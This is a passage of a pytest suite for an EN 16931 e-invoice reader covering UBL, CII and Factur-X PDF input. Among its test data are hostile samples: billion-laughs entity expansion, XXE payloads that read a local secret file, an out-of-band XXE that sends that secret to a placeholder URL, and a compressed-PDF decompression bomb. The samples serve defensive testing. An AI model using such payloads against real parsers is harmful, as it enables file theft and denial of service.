"""Reading EN 16931 e-invoices (UBL, CII, Factur-X PDF) into the upload document: the business terms
each contract field comes from, every way a term can be bad, and hostile documents refused unread."""

from __future__ import annotations

import copy
import io
import re
import subprocess
import sys
import time
import zlib
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from lxml import etree
from pypdf import PdfWriter
from pypdf.generic import NumberObject

from pom.core.errors import ValidationFailed
from pom.domain.einvoice import safe_xml
from pom.domain.einvoice.read import read_invoice_document, sniff_format
from pom.domain.einvoice.terms import amount
from tests.documents.factur_x import factur_x_pdf

ROOT = Path(__file__).resolve().parents[2]
DOCUMENTS = ROOT / "tests" / "documents"
CII = (DOCUMENTS / "cii_invoice.xml").read_bytes()
UBL = (DOCUMENTS / "ubl_invoice.xml").read_bytes()
UBL_CREDIT_NOTE = (DOCUMENTS / "ubl_credit_note.xml").read_bytes()
XML = "application/xml"
NS = {
    "rsm": "urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100",
    "ram": "urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100",
    "udt": "urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100",
    "cac": "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2",
    "cbc": "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2",
}
CII_AGREEMENT = "rsm:SupplyChainTradeTransaction/ram:ApplicableHeaderTradeAgreement/"
CII_SETTLEMENT = "rsm:SupplyChainTradeTransaction/ram:ApplicableHeaderTradeSettlement/"
CII_TOTALS = CII_SETTLEMENT + "ram:SpecifiedTradeSettlementHeaderMonetarySummation/"
CII_LINE = "rsm:SupplyChainTradeTransaction/ram:IncludedSupplyChainTradeLineItem"
CII_LINE_AMOUNT = (
    "ram:SpecifiedLineTradeSettlement/ram:SpecifiedTradeSettlementLineMonetarySummation/ram:LineTotalAmount"
)
UBL_TOTALS = "cac:LegalMonetaryTotal/"
UBL_SELLER = "cac:AccountingSupplierParty/cac:Party/cac:PartyLegalEntity/cbc:RegistrationName"
FAST = 1.0  # seconds: a hostile document is refused at once, never after expanding or fetching anything

# The business terms of tests/documents/cii_invoice.xml and ubl_invoice.xml (the same invoice).
INVOICE = {
    "sourceFormat": "CII",
    "documentType": "INVOICE",
    "supplierInvoiceNumber": "INV-2024-0042",  # BT-1
    "issueDate": "2024-08-02",  # BT-2
    "currency": "EUR",  # BT-5
    "billingEntity": "Nimbus Cloud Services GmbH",  # BT-27
    "billingPeriod": "2024-07",  # BT-73 2024-07-01
    "poReference": "PO-2024-117",  # BT-13
    "precedingInvoiceNumber": None,  # no BT-25
    "subtotal": Decimal("1400.00"),  # BT-109
    "tax": Decimal("266.00"),  # BT-110 in EUR, not BT-111 in USD
    "total": Decimal("1666.00"),  # BT-112
    "allowanceTotal": Decimal("100.50"),  # BT-107
    "chargeTotal": Decimal("0"),  # BT-108
    "lines": [
        {
            "lineNumber": 1,
            "lineId": "1",
            "amount": Decimal("1200.00"),
            "description": "Compute usage July 2024",
            "poLineItemId": "1",
        },
        {
            "lineNumber": 2,
            "lineId": "2",
            "amount": Decimal("350.50"),
            "description": "Object storage July 2024",
            "poLineItemId": "2",
        },
        {
            "lineNumber": 3,
            "lineId": "3",
            "amount": Decimal("-50.00"),
            "description": "Service credit for the 14 July outage",
            "poLineItemId": None,
        },
    ],
    "description": None,
}
# The business terms of tests/documents/ubl_credit_note.xml.
CREDIT_NOTE = {
    "sourceFormat": "UBL",
    "documentType": "CREDIT_MEMO",
    "supplierInvoiceNumber": "CN-2024-0007",
    "issueDate": "2024-08-20",
    "currency": "EUR",
    "billingEntity": "Nimbus Cloud Services GmbH",
    "billingPeriod": "2024-07",
    "poReference": "PO-2024-117",
    "precedingInvoiceNumber": "INV-2024-0042",
    "subtotal": Decimal("200.00"),
    "tax": Decimal("38.00"),
    "total": Decimal("238.00"),
    "allowanceTotal": None,
    "chargeTotal": None,
    "lines": [
        {
            "lineNumber": 1,
            "lineId": "1",
            "amount": Decimal("200.00"),
            "description": "Compute usage July 2024, billed twice",
            "poLineItemId": "1",
        }
    ],
    "description": None,
}

# A CII as small as the Factur-X MINIMUM profile allows: header totals, no lines.
MINIMUM_CII = """<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"
    xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100"
    xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100">
  <rsm:ExchangedDocumentContext>
    <ram:GuidelineSpecifiedDocumentContextParameter>
      <ram:ID>urn:factur-x.eu:1p0:minimum</ram:ID>
    </ram:GuidelineSpecifiedDocumentContextParameter>
  </rsm:ExchangedDocumentContext>
  <rsm:ExchangedDocument>
    <ram:ID>MIN-7</ram:ID>
    <ram:TypeCode>{type_code}</ram:TypeCode>
    <ram:IssueDateTime><udt:DateTimeString format="102">20240905</udt:DateTimeString></ram:IssueDateTime>
  </rsm:ExchangedDocument>
  <rsm:SupplyChainTradeTransaction>
    <ram:ApplicableHeaderTradeAgreement>
      <ram:SellerTradeParty>
        <ram:Name>Nimbus Cloud Services GmbH</ram:Name>
        <ram:PostalTradeAddress><ram:CountryID>DE</ram:CountryID></ram:PostalTradeAddress>
        <ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">DE123456789</ram:ID></ram:SpecifiedTaxRegistration>
      </ram:SellerTradeParty>
      <ram:BuyerTradeParty><ram:Name>Example Buyer SARL</ram:Name></ram:BuyerTradeParty>
    </ram:ApplicableHeaderTradeAgreement>
    <ram:ApplicableHeaderTradeDelivery/>
    <ram:ApplicableHeaderTradeSettlement>
      <ram:InvoiceCurrencyCode>{currency}</ram:InvoiceCurrencyCode>
      <ram:SpecifiedTradeSettlementHeaderMonetarySummation>
        <ram:TaxBasisTotalAmount>{subtotal}</ram:TaxBasisTotalAmount>
        <ram:TaxTotalAmount currencyID="{currency}">{tax}</ram:TaxTotalAmount>
        <ram:GrandTotalAmount>{total}</ram:GrandTotalAmount>
        <ram:DuePayableAmount>{total}</ram:DuePayableAmount>
      </ram:SpecifiedTradeSettlementHeaderMonetarySummation>
    </ram:ApplicableHeaderTradeSettlement>
  </rsm:SupplyChainTradeTransaction>
</rsm:CrossIndustryInvoice>
"""


def minimum_cii(
    *,
    type_code: str = "380",
    currency: str = "EUR",
    subtotal: str = "100.00",
    tax: str = "19.00",
    total: str = "119.00",
) -> bytes:
    return MINIMUM_CII.format(type_code=type_code, currency=currency, subtotal=subtotal, tax=tax, total=total).encode()


def edited(document: bytes, edit) -> bytes:
    """The document after ``edit(root)`` changed its tree."""
    root = etree.fromstring(document)
    edit(root)
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def without(document: bytes, path: str) -> bytes:
    def remove(root):
        found = root.findall(path, NS)
        assert found, path
        for element in found:
            element.getparent().remove(element)

    return edited(document, remove)


def with_text(document: bytes, path: str, text: str) -> bytes:
    def replace(root):
        found = root.find(path, NS)
        assert found is not None, path
        found.text = text

    return edited(document, replace)


def refusal(body: bytes, content_type: str | None = XML) -> list[tuple]:
    """The locations of everything wrong with the document."""
    with pytest.raises(ValidationFailed) as raised:
        read_invoice_document(body, content_type)
    return [error.loc for error in raised.value.errors]


def body_refusal(body: bytes, content_type: str | None = XML) -> str:
    """The one message refusing the document as a whole, read within FAST seconds."""
    started = time.monotonic()
    with pytest.raises(ValidationFailed) as raised:
        read_invoice_document(body, content_type)
    assert time.monotonic() - started < FAST
    (error,) = raised.value.errors
    assert error.loc == ("body",)
    return error.msg


# --- the sample documents -------------------------------------------------------------------


def test_the_cii_invoice_reads_to_its_business_terms():
    assert read_invoice_document(CII, XML) == INVOICE


def test_the_ubl_invoice_reads_to_the_same_terms_as_the_cii_one():
    assert read_invoice_document(UBL, "text/xml") == {**INVOICE, "sourceFormat": "UBL"}


def test_the_factur_x_pdf_reads_to_its_embedded_cii():
    assert read_invoice_document(factur_x_pdf(CII), "application/pdf") == {**INVOICE, "sourceFormat": "FACTURX"}


def test_the_ubl_credit_note_is_a_credit_memo_naming_the_invoice_it_corrects():
    assert read_invoice_document(UBL_CREDIT_NOTE, XML) == CREDIT_NOTE


@pytest.mark.parametrize("document", [CII, UBL, UBL_CREDIT_NOTE, factur_x_pdf(CII)])
def test_without_a_content_type_the_document_is_recognised_by_its_content(document):
    assert read_invoice_document(document, None) == read_invoice_document(
        document, "application/pdf" if document.startswith(b"%PDF") else XML
    )


def test_amounts_are_exact_decimals():
    document = read_invoice_document(CII, XML)
    amounts = [document[field] for field in ("subtotal", "tax", "total", "allowanceTotal", "chargeTotal")]
    assert all(type(value) is Decimal for value in amounts + [line["amount"] for line in document["lines"]])


# --- document type and negative corrections ------------------------------------------------------


def _with_preceding_invoice(root):
    settlement = root.find(CII_SETTLEMENT.rstrip("/"), NS)
    reference = etree.SubElement(settlement, f"{{{NS['ram']}}}InvoiceReferencedDocument")
    etree.SubElement(reference, f"{{{NS['ram']}}}IssuerAssignedID").text = "INV-2024-0042"


@pytest.mark.parametrize("type_code", ["381", "81", "261", "396", "532"])
def test_a_cii_with_a_credit_note_type_code_is_a_credit_memo(type_code):
    document = with_text(edited(CII, _with_preceding_invoice), "rsm:ExchangedDocument/ram:TypeCode", type_code)
    read = read_invoice_document(document, XML)
    assert (read["documentType"], read["precedingInvoiceNumber"]) == ("CREDIT_MEMO", "INV-2024-0042")
    assert read["total"] == Decimal("1666.00")


@pytest.mark.parametrize("type_code", ["380", "384", "389", "751"])
def test_other_type_codes_are_invoices(type_code):
    assert read_invoice_document(minimum_cii(type_code=type_code), XML)["documentType"] == "INVOICE"


def test_a_ubl_invoice_with_type_code_381_is_a_credit_memo():
    document = with_text(UBL, "cbc:InvoiceTypeCode", "381")
    assert read_invoice_document(document, XML)["documentType"] == "CREDIT_MEMO"


def _negate_amounts(root):
    """Every amount with a currency negated (as a seller writes a correction as a negative invoice)."""
    for element in root.iter():
        if element.get("currencyID") and Decimal(element.text):
            element.text = element.text[1:] if element.text.startswith("-") else "-" + element.text


def test_an_invoice_with_a_negative_total_is_a_credit_memo_for_the_negated_amounts():
    read = read_invoice_document(edited(UBL, _negate_amounts), XML)
    assert read == {**INVOICE, "sourceFormat": "UBL", "documentType": "CREDIT_MEMO"}


def test_a_credit_note_with_a_negative_total_is_an_invoice_for_the_negated_amounts():
    read = read_invoice_document(edited(UBL_CREDIT_NOTE, _negate_amounts), XML)
    assert read == {**CREDIT_NOTE, "documentType": "INVOICE"}


def test_a_negative_minimum_invoice_is_a_credit_memo():
    read = read_invoice_document(minimum_cii(subtotal="-100.00", tax="-19.00", total="-119.00"), XML)
    assert (read["documentType"], read["subtotal"], read["tax"], read["total"]) == ("CREDIT_MEMO", 100, 19, 119)


def test_totals_of_the_opposite_sign_to_the_total_are_refused():
    assert refusal(minimum_cii(subtotal="100.00", tax="-219.00", total="-119.00")) == [("BT-109",)]
    assert refusal(minimum_cii(subtotal="-100.00", tax="219.00", total="119.00")) == [("BT-109",)]


# --- optional terms -------------------------------------------------------------------------------


def test_a_minimum_profile_invoice_has_no_lines_and_no_optional_terms():
    read = read_invoice_document(minimum_cii(), XML)
    assert read == {
        "sourceFormat": "CII",
        "documentType": "INVOICE",
        "supplierInvoiceNumber": "MIN-7",
        "issueDate": "2024-09-05",
        "currency": "EUR",
        "billingEntity": "Nimbus Cloud Services GmbH",
        "billingPeriod": None,
        "poReference": None,
        "precedingInvoiceNumber": None,
        "subtotal": Decimal(100),
        "tax": Decimal(19),
        "total": Decimal(119),
        "allowanceTotal": None,
        "chargeTotal": None,
        "lines": None,
        "description": None,
    }


def test_without_any_vat_total_the_tax_is_zero():
    assert read_invoice_document(without(UBL, "cac:TaxTotal"), XML)["tax"] == 0


def test_a_vat_total_only_in_another_currency_is_refused():
    def keep_the_usd_total(root):
        root.remove(root.find("cac:TaxTotal", NS))

    assert refusal(edited(UBL, keep_the_usd_total)) == [("BT-110",)]


def test_a_single_cii_vat_total_without_a_currency_is_the_documents():
    def drop_currency(root):
        root.find(CII_TOTALS + "ram:TaxTotalAmount", NS).attrib.pop("currencyID")

    document = without(edited(CII, drop_currency), CII_TOTALS + "ram:TaxTotalAmount[@currencyID='USD']")
    assert read_invoice_document(document, XML)["tax"] == Decimal(266)


def test_the_seller_name_is_normalised_and_references_only_stripped():
    document = with_text(
        CII, CII_AGREEMENT + "ram:SellerTradeParty/ram:Name", "\n  Nimbus \t Cloud\n   Services  GmbH "
    )
    document = with_text(document, "rsm:ExchangedDocument/ram:ID", "  INV 2024/0042  ")
    read = read_invoice_document(document, XML)
    assert (read["billingEntity"], read["supplierInvoiceNumber"]) == ("Nimbus Cloud Services GmbH", "INV 2024/0042")


def test_a_long_item_name_is_cut_to_500_characters():
    document = with_text(CII, CII_LINE + "/ram:SpecifiedTradeProduct/ram:Name", "x" * 600)
    assert read_invoice_document(document, XML)["lines"][0]["description"] == "x" * 500


@pytest.mark.parametrize(
    ("encoding", "python_codec"), [("UTF-16", "utf-16"), ("ISO-8859-1", "latin-1"), ("UTF-32", "utf-32")]
)
def test_the_documents_own_encoding_is_honoured(encoding, python_codec):
    text = CII.decode().replace('encoding="UTF-8"', f'encoding="{encoding}"').replace("Nimbus Cloud", "Nübus Cloud")
    assert read_invoice_document(text.encode(python_codec), XML)["billingEntity"] == "Nübus Cloud Services GmbH"


# --- missing and bad terms --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("term", "document", "path"),
    [
        ("BT-1", CII, "rsm:ExchangedDocument/ram:ID"),
        ("BT-2", CII, "rsm:ExchangedDocument/ram:IssueDateTime"),
        ("BT-5", CII, CII_SETTLEMENT + "ram:InvoiceCurrencyCode"),
        ("BT-27", CII, CII_AGREEMENT + "ram:SellerTradeParty/ram:Name"),
        ("BT-109", CII, CII_TOTALS + "ram:TaxBasisTotalAmount"),
        ("BT-112", CII, CII_TOTALS + "ram:GrandTotalAmount"),
        ("BT-1", UBL, "cbc:ID"),
        ("BT-2", UBL, "cbc:IssueDate"),
        ("BT-5", UBL, "cbc:DocumentCurrencyCode"),
        ("BT-27", UBL, UBL_SELLER),
        ("BT-109", UBL, UBL_TOTALS + "cbc:TaxExclusiveAmount"),
        ("BT-112", UBL, UBL_TOTALS + "cbc:TaxInclusiveAmount"),
    ],
)
def test_each_missing_required_term_is_named(term, document, path):
    assert refusal(without(document, path)) == [(term,)]


def test_every_problem_is_reported_at_once():
    document = without(without(without(UBL, "cbc:ID"), UBL_SELLER), UBL_TOTALS + "cbc:TaxInclusiveAmount")
    document = with_text(document, "cac:InvoicePeriod/cbc:StartDate", "2024-02-30")
    assert sorted(refusal(document)) == [("BT-1",), ("BT-112",), ("BT-27",), ("BT-73",)]


def test_an_empty_required_term_is_missing():
    with pytest.raises(ValidationFailed) as raised:
        read_invoice_document(with_text(CII, "rsm:ExchangedDocument/ram:ID", "  \n "), XML)
    assert raised.value.detail == [{"loc": ["BT-1"], "field": "BT-1", "msg": "is missing", "type": "missing"}]


@pytest.mark.parametrize(
    "text",
    ["1e3", "1,00", "12.345", "-0", "-0.00", "+-1", "1.", ".5", "1 000", "0x10", "١٠٠", "NaN", "1000000000000000"],
)
def test_a_bad_amount_is_named(text):
    assert refusal(with_text(CII, CII_TOTALS + "ram:TaxBasisTotalAmount", text)) == [("BT-109",)]


@pytest.mark.parametrize(
    ("path", "loc"),
    [
        (CII_TOTALS + "ram:TaxTotalAmount", ("BT-110",)),
        (CII_TOTALS + "ram:AllowanceTotalAmount", ("BT-107",)),
        (CII_TOTALS + "ram:ChargeTotalAmount", ("BT-108",)),
        (f"{CII_LINE}[2]/{CII_LINE_AMOUNT}", ("lines", 1, "BT-131")),
    ],
)
def test_a_bad_optional_amount_is_named(path, loc):
    assert refusal(with_text(CII, path, "1e3")) == [loc]


def test_a_line_without_its_amount_is_named():
    assert refusal(without(CII, f"{CII_LINE}[3]/ram:SpecifiedLineTradeSettlement")) == [("lines", 2, "BT-131")]


def test_amounts_are_checked_against_the_currencys_minor_units():
    assert read_invoice_document(minimum_cii(currency="JPY", subtotal="1000.00", tax="100", total="1100"), XML)
    assert refusal(minimum_cii(currency="JPY", subtotal="1000", tax="100", total="1100.5")) == [("BT-112",)]
    assert refusal(minimum_cii(currency="KWD", subtotal="1.0001", tax="0.1", total="1.1001")) == [
        ("BT-109",),
        ("BT-112",),
    ]


@pytest.mark.parametrize("currency", ["EURO", "eur", "XXX", "ZZZ"])
def test_an_unknown_currency_is_named(currency):
    assert refusal(minimum_cii(currency=currency)) == [("BT-5",)]


@pytest.mark.parametrize(
    ("term", "path", "text"),
    [
        ("BT-2", "rsm:ExchangedDocument/ram:IssueDateTime/udt:DateTimeString", "20240231"),
        ("BT-2", "rsm:ExchangedDocument/ram:IssueDateTime/udt:DateTimeString", "2024-08-02"),
        ("BT-73", CII_SETTLEMENT + "ram:BillingSpecifiedPeriod/ram:StartDateTime/udt:DateTimeString", "2024071"),
        ("BT-73", CII_SETTLEMENT + "ram:BillingSpecifiedPeriod/ram:StartDateTime/udt:DateTimeString", "19990701"),
    ],
)
def test_a_bad_cii_date_is_named(term, path, text):
    assert refusal(with_text(CII, path, text)) == [(term,)]


def test_a_cii_date_in_another_format_is_named():
    def format_103(root):
        root.find("rsm:ExchangedDocument/ram:IssueDateTime/udt:DateTimeString", NS).set("format", "103")

    assert refusal(edited(CII, format_103)) == [("BT-2",)]


@pytest.mark.parametrize("text", ["2024-8-2", "20240802", "2024-08-02Z", "2024-13-01"])
def test_a_bad_ubl_date_is_named(text):
    assert refusal(with_text(UBL, "cbc:IssueDate", text)) == [("BT-2",)]


@pytest.mark.parametrize(
    ("term", "document", "path"),
    [
        ("BT-1", UBL, "cbc:ID"),
        ("BT-13", UBL, "cac:OrderReference/cbc:ID"),
        ("BT-25", UBL_CREDIT_NOTE, "cac:BillingReference/cac:InvoiceDocumentReference/cbc:ID"),
        ("BT-27", UBL, UBL_SELLER),
    ],
)
def test_a_reference_or_name_longer_than_200_characters_is_named(term, document, path):
    assert read_invoice_document(with_text(document, path, "R" * 200), XML)
    assert refusal(with_text(document, path, "R" * 201)) == [(term,)]


def test_control_characters_in_a_reference_are_refused():
    assert refusal(with_text(UBL, "cbc:ID", "INV\x7f42")) == [("BT-1",)]
    assert refusal(with_text(UBL, "cbc:ID", "INV\n42")) == [("BT-1",)]


def test_more_than_100_lines_are_refused():
    def lines(count):
        def repeat(root):
            line = root.find(CII_LINE, NS)
            for _ in range(count - 3):
                line.addnext(copy.deepcopy(line))

        return edited(CII, repeat)

    assert len(read_invoice_document(lines(100), XML)["lines"]) == 100
    assert refusal(lines(101)) == [("lines",)]


@given(st.text(st.characters(categories=["L", "N", "P", "S", "Zs"]), min_size=1, max_size=200))
@settings(max_examples=50, deadline=None)
def test_the_invoice_number_is_kept_verbatim(number):
    assume(number.strip())
    assert read_invoice_document(with_text(UBL, "cbc:ID", number), XML)["supplierInvoiceNumber"] == number.strip()


# --- the amount grammar -----------------------------------------------------------------------


@given(
    st.decimals(min_value=-(10**15) + 1, max_value=10**15 - 1, places=2, allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.integers(0, 3),
)
def test_an_amount_reads_back_exactly_however_it_is_written(value, plus_sign, extra_zeros):
    assume(not (value == 0 and value.is_signed()))
    written = f"{value:f}"
    text = written + ("0" * extra_zeros if "." in written else "")
    text = f" +{text}\n" if plus_sign and not value.is_signed() else f"\t{text} "
    parsed = amount(text, "EUR")
    assert parsed == value
    assert f"{parsed:f}" == (written.rstrip("0").rstrip(".") if "." in written else written)  # no trailing zeros


@given(st.text(max_size=24))
def test_nothing_outside_the_grammar_is_an_amount(text):
    assume(not re.fullmatch(r"\s*[+-]?[0-9]+(\.[0-9]+)?\s*", text))
    with pytest.raises(ValueError, match="decimal string"):
        amount(text, "EUR")


# --- documents that are not e-invoices ------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b"%PDF-1.7\n", "PDF"),
        (b"\r\n %PDF-2.0", "PDF"),
        (b"<?xml version='1.0'?><x/>", "XML"),
        (b"\xef\xbb\xbf\n <Invoice/>", "XML"),
        ("\ufeff<?xml version='1.0' encoding='UTF-16'?>".encode("utf-16-le"), "XML"),
        ("<x/>".encode("utf-16"), "XML"),
        ("<x/>".encode("utf-32"), "XML"),
        ("%PDF-".encode("utf-32-be"), None),
        (b'  {"invoiceId": "A"}', "JSON"),
        (b'\xef\xbb\xbf{"a": 1}', "JSON"),
        (b"", None),
        (b"   ", None),
        (b"PK\x03\x04", None),
        (b"[1, 2]", None),
        (b"%PDF", None),
    ],
)
def test_sniff_format(body, expected):
    assert sniff_format(body) == expected


@pytest.mark.parametrize(
    ("body", "content_type"),
    [(b'{"invoiceId": "A"}', None), (b"hello", None), (CII, "application/json"), (CII, "text/plain")],
)
def test_anything_but_xml_or_pdf_is_refused(body, content_type):
    assert "must be an EN 16931 e-invoice" in body_refusal(body, content_type)


@pytest.mark.parametrize("body", [b"<a><b></a>", b"", b"not xml", CII[:-30], b"<x/><y/>"])
def test_xml_that_is_not_well_formed_is_refused(body):
    assert "not well-formed" in body_refusal(body)


@pytest.mark.parametrize(
    "body",
    [
        b"<foo/>",
        b"<Invoice/>",
        b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>',
        b'<CrossIndustryDocument xmlns="urn:ferd:CrossIndustryDocument:invoice:1p0"/>',
    ],
)
def test_xml_of_an_unknown_kind_is_refused_without_echoing_it(body):
    message = body_refusal(body)
    assert "neither a UBL 2.1 Invoice or CreditNote nor a UN/CEFACT CrossIndustryInvoice" in message
    assert "foo" not in message
    assert "urn:" not in message


# --- hostile XML ---------------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n' for i in range(1, 10)
    )
    + "]>\n<lolz>&lol9;</lolz>\n"
)
EXTERNAL_DTD = '<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd">\n<x>&ent;</x>\n'
PUBLIC_DTD = '<!DOCTYPE Invoice PUBLIC "-//x//y//EN" "http://127.0.0.1:1/x.dtd"><Invoice/>'


def _external_entity(secret_file: Path) -> str:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "{secret_file.as_uri()}">]>\n'
        '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&xxe;</Invoice>\n'
    )


def _parameter_entity(secret_file: Path) -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % secret SYSTEM "{secret_file.as_uri()}"> %secret;]>\n<x/>\n'


def _out_of_band_parameter_entity(secret_file: Path) -> str:
    """The secret sent out in a URL, as out-of-band XXE does."""
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % secret SYSTEM "{secret_file.as_uri()}">\n'
        "<!ENTITY % outer \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:1/?%secret;'>\">\n%outer; %leak;]>\n<x/>\n"
    )


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("TOPSECRET-7f3a9c")
    return path


def _hostile_documents(secret_file: Path) -> dict[str, str]:
    return {
        "billion laughs": BILLION_LAUGHS,
        "external entity": _external_entity(secret_file),
        "external DTD": EXTERNAL_DTD,
        "public DTD": PUBLIC_DTD,
        "parameter entity": _parameter_entity(secret_file),
        "out-of-band parameter entity": _out_of_band_parameter_entity(secret_file),
    }


HOSTILE = [
    "billion laughs",
    "external entity",
    "external DTD",
    "public DTD",
    "parameter entity",
    "out-of-band parameter entity",
]


@pytest.mark.parametrize("kind", HOSTILE)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16", "utf-32"])
def test_hostile_xml_is_refused_at_once_and_leaks_nothing(kind, codec, secret_file):
    text = _hostile_documents(secret_file)[kind]
    if codec != "utf-8":
        text = text.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{codec.upper()}"?>')
    started = time.monotonic()
    with pytest.raises(ValidationFailed) as raised:
        read_invoice_document(text.encode(codec), None)
    assert time.monotonic() - started < FAST
    (error,) = raised.value.errors
    # The byte scan knows ASCII-compatible encodings and UTF-16; in UTF-32 the parser's own limits or the
    # DTD check on the parsed tree refuse it.
    assert "DTD or entities" in error.msg or (codec == "utf-32" and "not well-formed" in error.msg)
    assert "TOPSECRET" not in repr(raised.value.detail)


@pytest.mark.parametrize("kind", HOSTILE)
def test_the_parsed_tree_is_checked_for_a_dtd_too(kind, secret_file, monkeypatch):
    """Had the byte scan missed a declaration (an encoding it does not know), the parser neither
    expands nor fetches anything, and the tree's DTD is refused."""
    monkeypatch.setattr(safe_xml, "_DECLARATIONS", ())
    message = body_refusal(_hostile_documents(secret_file)[kind].encode())
    assert "DTD or entities" in message or "not well-formed" in message
    assert "TOPSECRET" not in message


# --- PDF ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "filename", ["factur-x.xml", "ZUGFeRD-invoice.xml", "zugferd-invoice.xml", "XRECHNUNG.xml", "rechnung.xml"]
)
def test_the_embedded_invoice_is_found_by_its_name_or_as_the_only_xml(filename):
    read = read_invoice_document(factur_x_pdf(CII, filename), "application/pdf")
    assert read == {**INVOICE, "sourceFormat": "FACTURX"}


def test_an_embedded_ubl_invoice_is_read_too_and_its_source_is_the_pdf():
    assert read_invoice_document(factur_x_pdf(UBL, "xrechnung.xml"), None) == {**INVOICE, "sourceFormat": "FACTURX"}


def _pdf(attachments: dict[str, bytes]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    for name, content in attachments.items():
        writer.add_attachment(name, content)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def test_the_named_invoice_wins_over_other_xml_attachments():
    document = _pdf({"delivery-note.xml": b"<note/>", "factur-x.xml": CII, "terms.xml": b"<terms/>"})
    assert read_invoice_document(document, None)["sourceFormat"] == "FACTURX"


@pytest.mark.parametrize(
    "attachments", [{}, {"terms.txt": b"Net 30"}, {"a.xml": CII, "b.xml": CII}, {"invoice.json": b"{}"}]
)
def test_a_pdf_without_an_embedded_invoice_is_refused(attachments):
    assert "without an embedded invoice XML" in body_refusal(_pdf(attachments), "application/pdf")


@pytest.mark.parametrize(
    "body",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 16,
        b"%PDF-1.4\n%%EOF",
        factur_x_pdf(CII)[:400],
        CII,
    ],
)
def test_a_corrupt_pdf_is_refused(body):
    assert "not a readable PDF" in body_refusal(body, "application/pdf")


def test_a_truncated_factur_x_pdf_is_refused_or_read_whole():
    """pypdf recovers what it can from a truncated file: the invoice it finds must then be whole."""

    def outcome(body: bytes) -> object:
        try:
            return read_invoice_document(body, "application/pdf")
        except ValidationFailed as refused:
            return [error.loc for error in refused.errors]

    whole = factur_x_pdf(CII)
    for cut in range(200, len(whole), 997):
        assert outcome(whole[:cut]) in ([("body",)], {**INVOICE, "sourceFormat": "FACTURX"})


def test_an_embedded_invoice_over_4_mib_is_refused():
    padded = CII.replace(b"<rsm:ExchangedDocument>", b"<rsm:ExchangedDocument>" + b" " * (4 * 1024 * 1024))
    assert "larger than 4 MiB" in body_refusal(factur_x_pdf(padded), "application/pdf")


def test_an_embedded_invoice_declared_over_4_mib_is_refused_unread():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("factur-x.xml", CII).size = NumberObject(4 * 1024 * 1024 + 1)
    output = io.BytesIO()
    writer.write(output)
    assert "larger than 4 MiB" in body_refusal(output.getvalue(), "application/pdf")


def _pdf_with_flate_attachment(content: bytes) -> bytes:
    """A PDF, written out by hand, whose factur-x.xml is a FlateDecode stream with no declared size."""
    stream = zlib.compress(content, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(factur-x.xml) 3 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
        b"<< /Type /Filespec /F (factur-x.xml) /EF << /F 4 0 R >> >>",
        b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
    ]
    output = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(output)
    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    output += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    output += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(output)


def test_a_compressed_embedded_invoice_is_read():
    assert read_invoice_document(_pdf_with_flate_attachment(CII), None) == {**INVOICE, "sourceFormat": "FACTURX"}


def test_a_compressed_attachment_inflating_beyond_4_mib_is_refused_unread():
    bomb = _pdf_with_flate_attachment(b"<x>" + b"\0" * (16 * 1024 * 1024) + b"</x>")
    assert len(bomb) < 100_000
    assert "larger than 4 MiB" in body_refusal(bomb, "application/pdf")


def test_hostile_xml_inside_a_pdf_is_refused(secret_file):
    message = body_refusal(factur_x_pdf(_external_entity(secret_file).encode()), None)
    assert "DTD or entities" in message
    assert "TOPSECRET" not in message


def test_reading_xml_does_not_load_pypdf():
    """pypdf is heavy: the reader loads it on the first PDF, never at import (cold start)."""
    script = (
        "import sys; from pom.domain.einvoice.read import read_invoice_document; "
